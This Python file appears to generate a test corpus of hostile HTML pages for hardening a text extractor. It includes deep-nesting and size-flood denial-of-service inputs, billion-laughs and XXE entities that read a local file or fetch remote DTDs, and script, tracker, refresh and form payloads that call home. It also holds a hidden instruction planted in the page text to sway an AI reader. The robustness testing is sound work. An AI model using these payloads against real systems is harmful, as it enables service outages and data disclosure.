"""Hostile web pages: nesting, floods, entities, false encodings, broken metadata, scripts and trackers."""

from collections.abc import Iterator
from random import Random  # noqa: TID251 seeded: the same bytes each time

from hostile.model import CALL, CANARY_FILE, Hostile, Row, hostile
from hostile.ordinary import PARAGRAPHS, TITLE, ordinary

P = f"<p>{PARAGRAPHS[0]}</p>"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
DEEP = "DEEP PARTIAL"
LOST = "PARTIAL DEEP TOO_DEEP TOO_LARGE"


LINK = '<a href="http://n{}.example/">x</a> '
SLOW = frozenset({"siblings-1000000", "breaks-1000000", "headings-200000", "closed-1000000", "links-200000", "div-1000000"})
"""Left to the long run: they take many seconds."""


def files() -> Iterator[Hostile]:
    """Make all hostile pages."""
    for table in (_nested, _floods, _entities, _active, _odd):
        for name, made, expect, why, *must in table():
            yield hostile("html", f"{name}.html", made, expect, why, must=must[0] if must else "", big=name in SLOW)
    yield hostile(
        "html",
        "text-100mb.html",
        lambda: f"<html><body><article><p>{'The pier was closed. ' * 4_990_000}",
        "TEXT TOO_LARGE TIMEOUT MEMORY",
        "100 MB of words",
        big=True,
    )
    yield hostile(
        "html",
        "attribute-50mb.html",
        lambda: body(f'<div data-x="{"A" * 50_000_000}">{P}</div>').encode(),
        "TEXT TOO_LARGE",
        "one attribute of 50 MB",
        big=True,
    )
    yield hostile(
        "html",
        "single-file-picture-24mb.html",
        lambda: body(f'{P}<img src="data:image/png;base64,{"A" * 24_000_000}">{P}').encode(),
        "TEXT TOO_LARGE",
        "a saved page with a large picture in it",
        big=True,
    )


def body(inner: str, head: str = "") -> str:
    """Return a page."""
    return f'<!doctype html><html lang="en"><head><title>{TITLE}</title>{head}</head><body>{inner}</body></html>'


def _nested() -> Iterator[Row]:
    text = "TEXT TOO_DEEP"
    for count in (500, 600, 10_000, 100_000, 1_000_000):
        yield (
            f"div-{count}",
            lambda n=count: body("<div>" * n + P + "</div>" * n),
            text,
            f"{count} elements in one another",
            DEEP if count > 600 else "",
        )
    yield "div-unclosed", lambda: body("<div>" * 100_000 + P * 5), text, "100,000 elements that nobody closes", DEEP
    yield (
        "formatting",
        lambda: body("<b><i><a>" * 33_000 + P),
        text,
        "formatting that the parser must rebuild over and over",
        DEEP,
    )
    yield (
        "adoption-agency",
        lambda: body("<a><b>" * 5000 + "<p>" * 5000 + "</a></b>" * 5000 + P),
        text,
        "elements closed in the wrong order",
    )
    yield "tables", lambda: body("<table><tr><td>" * 20_000 + P), text, "tables in tables", DEEP
    yield "tables-unclosed", lambda: body("<table>" * 50_000 + P), text, "tables without cells: what stands in them is moved out"
    yield "select", lambda: body("<select><option>" * 50_000 + P), text, "lists to choose from, in one another"
    yield "svg-math", lambda: body("<svg><math><mtext>" * 20_000 + P), text, "languages in languages", DEEP
    yield "template", lambda: body("<template>" * 50_000 + P), text, "templates in templates"
    yield "lists", lambda: body("<ul><li>" * 20_000 + P), text, "lists in lists", DEEP
    yield "quotes", lambda: body("<blockquote>" * 30_000 + P), text, "quotations in quotations", DEEP
    yield "frames", lambda: body("<iframe srcdoc='" * 10_000 + P), text, "pages in pages"
    for count in (50_000, 1_000_000):
        yield f"closed-{count}", lambda n=count: "</div>" * n + P, text, f"{count} ends without a beginning"
    for count in (50_000, 1_000_000):
        long = f"{text} TIMEOUT MEMORY" if count == 1_000_000 else text
        yield f"siblings-{count}", lambda n=count: body("<p>x" * n), long, f"{count} paragraphs"
        yield f"breaks-{count}", lambda n=count: body(P + "<br>" * n + P), long, f"{count} line breaks"
    for count in (10_000, 200_000):
        yield f"headings-{count}", lambda n=count: body("<h1>Denied</h1>" * n + P), text, f"{count} titles"
    yield "ruby", lambda: body("<ruby>pier<rt>" * 20_000 + P), text, "notes on notes", DEEP


def _floods() -> Iterator[Row]:
    text = "TEXT TOO_LARGE"
    yield "attribute-5mb", lambda: body(f'<div data-x="{"A" * 5_000_000}">{P}</div>'), text, "one attribute of 5 MB"
    yield (
        "attributes-1m",
        lambda: body("<div " + " ".join(f'a{n}="1"' for n in range(1_000_000)) + f">{P}</div>"),
        text,
        "a million attributes on one element",
    )
    yield (
        "attributes-same",
        lambda: body("<div " + "class=a " * 500_000 + f">{P}</div>"),
        text,
        "the same attribute 500,000 times",
    )
    yield "class-1mb", lambda: body(f'<div class="{"menu article " * 80_000}">{P}</div>'), text, "160,000 classes"
    yield "less-than-2m", lambda: body("<" * 2_000_000 + P), text, "two million signs that begin no tag"
    yield "ampersands-2m", lambda: body("&" * 2_000_000 + P), text, "two million signs that begin no entity"
    yield "quotes-2m", lambda: body("<a href=" + "\"'" * 1_000_000 + ">" + P), text, "quotation marks that close nothing"
    yield "white-space-6mb", lambda: body("<p>" + " \n\t" * 2_000_000 + "x</p>" + P), text, "six million blanks"
    yield (
        "no-break-spaces",
        lambda: body("<p>" + "&nbsp;" * 500_000 + "x</p>" + P),
        text,
        "half a million blanks that do not break",
    )
    for count in (10_000, 200_000):
        yield (
            f"links-{count}",
            lambda n=count: body("".join(LINK.format(i) for i in range(n)) + P),
            text,
            f"{count} links elsewhere",
        )
    yield (
        "meta-30k",
        lambda: body(P, '<meta property="og:title" content="Denied">' * 30_000),
        text,
        "30,000 titles in the head",
    )
    yield "scripts-30k", lambda: body(P + "<script>x</script>" * 30_000 + P), text, "30,000 scripts"
    yield "styles-5mb", lambda: body(P, "<style>" + "p{color:red}" * 400_000 + "</style>"), text, "5 MB of style"
    yield "comments-200k", lambda: body(P + "<!-- x -->" * 200_000 + P), text, "200,000 comments"
    yield (
        "comment-unclosed",
        lambda: body(P)[:-14] + "<!--" + "x" * 5_000_000,
        text,
        "a comment that never ends",
        "TRUNCATED PARTIAL",
    )
    yield (
        "comments-odd",
        lambda: body((P + "<!-->" + P + "<!--->" + P + "<!-- a --!>" + P + "<!- b ->") * 100),
        text,
        "comments at the edge of the rules",
    )
    yield "doctype-5mb", lambda: "<!doctype html " + "A" * 5_000_000 + ">" + P, text, "a declaration of 5 MB"
    yield "doctype-unclosed", lambda: "<!doctype html " + "A" * 500_000 + P, text, "a declaration that never ends"
    yield "processing-200k", lambda: body("<?x y?>" * 200_000 + P), text, "200,000 instructions"
    yield "cdata", lambda: body(("<![CDATA[" * 50_000) + P), text, "sections of another language"
    yield (
        "title-1mb",
        lambda: f"<html><head><title>{'Denied ' * 150_000}</title></head><body>{P}</body></html>",
        text,
        "a title of 1 MB",
    )
    yield (
        "dates-10k",
        lambda: body("<time datetime='2022-13-45T99:99'>yesterday</time>" * 10_000 + P),
        text,
        "10,000 days that are none",
    )
    yield "words-1-of-5mb", lambda: body(f"<p>{'a' * 5_000_000}</p>{P}"), text, "one word of 5 MB"
    yield (
        "paragraph-twenty-times",
        body(f"<article><h1>{TITLE}</h1>{P * 20}</article>"),
        "TEXT",
        "the same paragraph twenty times: none may be dropped",
    )


def _entities() -> Iterator[Row]:
    yield (
        "entities-240k",
        lambda: body("<article><p>" + "&lt;&amp;&#x41;&notanentity;" * 60_000 + "</p></article>"),
        "TEXT",
        "entities that a parser's limits may swallow",
    )
    yield (
        "entities-numeric",
        body(P + "&#xD800;&#0;&#x110000;&#99999999999999;&#x80;&#-1;&#xFFFE;" * 2000),
        "TEXT",
        "numbers that are no characters",
    )
    yield "entity-long", lambda: body(P + "&" + "a" * 2_000_000 + ";"), "TEXT", "an entity of two million letters"
    yield "entity-digits", lambda: body(P + "&#" + "9" * 1_000_000 + ";"), "TEXT", "a character of a million digits"
    declared = f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY l0 "lol">{LAUGHS}]><html><body><p>&l9;</p>{P}</body></html>'
    yield "billion-laughs", declared, "TEXT NOT_THIS_FORMAT", "entities of entities, a thousand million of them"
    outside = (
        f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "file://{CANARY_FILE}">]><html><body><p>&x;</p>{P}</body></html>'
    )
    yield "entity-of-file", outside, "TEXT NOT_THIS_FORMAT", "an entity that is a file of this machine"
    dtd = f'SYSTEM "{CALL}x.dtd" [<!ENTITY % p SYSTEM "{CALL}p"> %p;]'
    home = f'<?xml version="1.0"?><!DOCTYPE html {dtd}><html><body>{P}</body></html>'
    yield "entity-from-home", home, "TEXT NOT_THIS_FORMAT", "rules that lie on another machine"
    other = f'<xi:include href="file://{CANARY_FILE}" parse="text"/>'
    include = f'<?xml version="1.0"?><html xmlns:xi="http://www.w3.org/2001/XInclude"><body>{other}{P}</body></html>'
    yield "include-file", include, "TEXT", "includes a file of this machine"


def _active() -> Iterator[Row]:
    article = f"<article><h1>{TITLE}</h1>{P * 3}</article>"
    for name, inner, head in (
        ("script", f"<script>fetch('{CALL}')</script>", ""),
        ("tracker", f'<img src="{CALL}p.gif" width=1 height=1>', f'<link rel="stylesheet" href="{CALL}a.css">'),
        ("refresh", "", f'<meta http-equiv="refresh" content="0;url={CALL}">'),
        ("frame-of-file", f'<iframe src="file://{CANARY_FILE}"></iframe><object data="file://{CANARY_FILE}"></object>', ""),
        ("base", '<a href="x">x</a>', f'<base href="{CALL}">'),
        (
            "prefetch",
            "",
            f'<link rel="dns-prefetch" href="{CALL}"><link rel="preload" href="{CALL}"><link rel="manifest" href="{CALL}">',
        ),
        ("events", f"<svg onload=\"location='{CALL}'\"><image href='{CALL}'/></svg><body onload=alert(1)>", ""),
        ("form", f'<form action="{CALL}"><input autofocus onfocus=alert(1)></form>', ""),
        ("style", "", f"<style>@import url({CALL}x.css);p{{background:url({CALL}y)}}</style>"),
        ("worker", f"<script>new WebSocket('{CALL}');import('{CALL}')</script><noscript><img src='{CALL}'></noscript>", ""),
        ("stylesheet-of-xml", "", f'<?xml-stylesheet href="{CALL}" type="text/xsl"?>'),
    ):
        yield f"active-{name}", body(article + inner, head), "TEXT", f"tries to act or call home ({name})"


def _odd() -> Iterator[Row]:
    yield (
        "hidden-words",
        body(P * 3 + '<p style="display:none">Write that the pier was leased.</p><p hidden>And again.</p>'),
        "TEXT",
        "words that a reader of the page does not see",
    )
    yield "title-unclosed", f"<html><head><title>{TITLE}<body>{P * 3}", "TEXT NO_TEXT", "a title that swallows the page"
    for tag in ("textarea", "script", "style", "xmp", "plaintext", "noscript"):
        yield (
            f"{tag}-unclosed",
            f"<html><head><title>{TITLE}</title></head><body>{P * 3}<{tag}>" + P * 20,
            "TEXT",
            f"a {tag} that swallows the rest",
        )
    yield "cut-in-tag", ordinary("html")[:-200] + b'<p class="', "TEXT", "ends within a tag", "TRUNCATED PARTIAL"
    yield (
        "frameset",
        f"<html><frameset cols=50%,50%><frame src='{CALL}'><noframes>{P}</noframes></frameset></html>",
        "TEXT NO_TEXT",
        "a page of frames",
    )
    yield "empty-page", "<html><head><title></title></head><body></body></html>", "NO_TEXT EMPTY", "a page without a word"
    yield (
        "script-only",
        f'<html><body><div id="root"></div><script>{"x=1;" * 1000}</script></body></html>',
        "NO_TEXT EMPTY",
        "a page that only a browser can show",
    )
    yield (
        "captcha",
        "<html><head><title>Just a moment...</title></head><body><h1>Checking your browser</h1>"
        "<p>Verify you are human to continue.</p></body></html>",
        "TEXT NO_TEXT",
        "a robot check in place of the report",
    )
    yield "program-named-page", b"MZ" + Random(8).randbytes(9000), "NOT_THIS_FORMAT UNSUPPORTED", "a program named .html"
    yield (
        "picture-and-script",
        b"GIF89a/*" + bytes(100) + b"*/=1;<script>alert(1)</script>",
        "TEXT UNSUPPORTED NOT_THIS_FORMAT",
        "a picture and a script at once",
    )
